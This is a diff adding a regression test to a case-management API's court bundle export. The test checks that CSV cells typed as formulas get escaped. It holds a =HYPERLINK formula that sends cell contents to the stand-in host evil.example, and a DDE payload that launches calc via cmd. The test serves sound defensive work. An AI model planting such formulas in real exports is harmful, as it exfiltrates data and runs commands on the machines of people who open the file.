@@ -292,6 +292,33 @@ def test_the_confirmation_bundle_holds_every_file_with_matching_hashes(app, api,
 
 
 @pytest.mark.slow
+def test_the_bundle_csvs_show_a_formula_as_text(api, staff):
+    """A name or an outcome typed as a formula (=HYPERLINK…, a DDE command) came out raw in
+    mediation-sessions.csv, and a spreadsheet opening the court's bundle evaluated it. Every
+    cell a spreadsheet would evaluate gets a leading apostrophe, as the XLSX exports do."""
+    import csv
+
+    worker = api(staff["PD"]["caseworker"])
+    case, flow = _agreed_mediation(worker)
+    link = '=HYPERLINK("http://evil.example/x?"&A1,"点击查看")'
+    response = worker.post(
+        f"/api/v1/cases/{case['id']}/mediation-sessions",
+        json={"held_on": "2026-04-09", "attendees": [link, "张三"], "outcome": "=cmd|' /C calc'!A0"},
+    )
+    assert response.status_code == 201, response.get_json()
+    flow.fire("apply_confirmation", local("2026-04-20"), data={"court": "上海市浦东新区人民法院"})
+    bundle = worker.get(f"/api/v1/cases/{case['id']}/confirmation-bundle")
+    archive = zipfile.ZipFile(io.BytesIO(bundle.data))
+    for name in ("mediation-sessions.csv", "audit-trail.csv"):
+        rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
+        for cell in (cell for row in rows for cell in row):
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
+    sessions = list(csv.reader(io.StringIO(archive.read("mediation-sessions.csv").decode("utf-8-sig"))))
+    assert sessions[-1][1] == "'" + link + "、张三"
+    assert sessions[-1][2] == "'=cmd|' /C calc'!A0"
+    assert sessions[1][1] == "张三、李四、调解员王五"  # plain text is untouched
+
+
 def test_a_bundle_with_200_mb_of_evidence_streams_with_flat_memory(app, api, staff):
     """20 files of 10 MB (the upload limit): the ZIP is read chunk by chunk while Python's
     allocations stay far below one file's size."""
